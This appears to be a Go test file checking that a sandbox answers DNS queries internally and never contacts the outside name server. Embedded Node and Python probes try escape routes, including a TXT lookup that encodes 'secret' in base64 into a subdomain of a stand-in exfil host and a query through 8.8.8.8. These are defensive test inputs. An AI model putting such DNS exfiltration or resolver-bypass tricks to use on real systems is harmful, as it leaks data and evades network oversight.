package scenario

import (
	"strings"
	"testing"
)

const nodeNames = `
const dns = require("dns"), show = (what, p) => p.then(a => console.log(what, JSON.stringify(a)), e => console.log(what, e.code))
const strange = new dns.promises.Resolver(); strange.setServers(["8.8.8.8"]);
(async () => {
  await show("lookup", dns.promises.lookup("allowed.example.com"))
  await show("resolve4", dns.promises.resolve4("allowed.example.com"))
  await show("resolve6", dns.promises.resolve6("allowed.example.com"))
  await show("txt", dns.promises.resolveTxt("c2VjcmV0.exfil.example.com"))
  await show("reverse", dns.promises.reverse("93.184.215.14"))
  await show("server", strange.resolve4("via-another-server.example.com"))
})()`

const pythonNames = `
import socket
print("python", socket.getaddrinfo("denied.example.com", 443, type=socket.SOCK_STREAM))
for name in ("intranet", "printer"):
    try: print(name, socket.getaddrinfo(name, 80))
    except socket.gaierror as e: print(name, e)
print("localhost", sorted({a[4][0] for a in socket.getaddrinfo("localhost", 80)}))`

// TestNamesAreAnsweredInside asks with the resolvers of several runtimes. Whatever is
// asked, the name server outside is asked nothing: it is a way out otherwise.
func TestNamesAreAnsweredInside(t *testing.T) {
	w := newWorld(t)
	w.https(t, "allowed.example.com", greet)
	b := bottle{
		manifest: w.only("allowed.example.com"),
		dir:      workDir(t, map[string]string{"names.js": nodeNames, "names.py": pythonNames, "goclient": goclient(t)}),
	}
	r := w.sh(t, b, `echo getent $(getent ahostsv4 denied.example.com)
		getent hosts single-label || echo single-label not found
		getent hosts 93.184.215.14 || echo address not found
		node names.js; /usr/bin/python3 names.py`)
	synthetic := func(line string) bool { return strings.Contains(line, "198.18.") || strings.Contains(line, "198.19.") }
	for _, c := range []struct {
		prefix string
		good   func(string) bool
	}{
		{"getent ", synthetic},
		{"single-label not found", func(string) bool { return true }},
		{"address not found", func(string) bool { return true }},
		{"lookup ", synthetic},
		{"resolve4 ", synthetic},
		{"resolve6 ", func(s string) bool { return strings.Contains(s, "ENODATA") }},
		{"txt ", func(s string) bool { return strings.Contains(s, "ENODATA") || strings.Contains(s, "ENOTFOUND") }},
		{"reverse ", func(s string) bool { return strings.Contains(s, "ENOTFOUND") }},
		{"server ", synthetic},
		{"python ", synthetic},
		{"intranet ", func(s string) bool { return strings.Contains(s, "not known") }},
		{"localhost ", func(s string) bool { return strings.Contains(s, "127.0.0.1") && !synthetic(s) }},
	} {
		found := false
		for line := range strings.Lines(r.stdout) {
			found = found || strings.HasPrefix(line, c.prefix) && c.good(line)
		}
		if !found {
			t.Errorf("%q: %v", c.prefix, r)
		}
	}
	if asked := w.names.Asked(); len(asked) != 0 {
		t.Errorf("the name server outside was asked for %q", asked)
	}
	// The control: a request to an allowed name is what makes the enforcer ask, for that name.
	if r := w.run(t, b, "./goclient", "https://allowed.example.com/"); !r.ok(greeting) {
		t.Errorf("%v", r)
	}
	w.run(t, b, "curl", "-sS", "https://denied.example.com/")
	for _, name := range w.names.Asked() {
		if name != "allowed.example.com" {
			t.Errorf("the name server outside was asked for %q", name)
		}
	}
	if len(w.names.Asked()) == 0 {
		t.Error("control: the name server was not asked at all")
	}
}
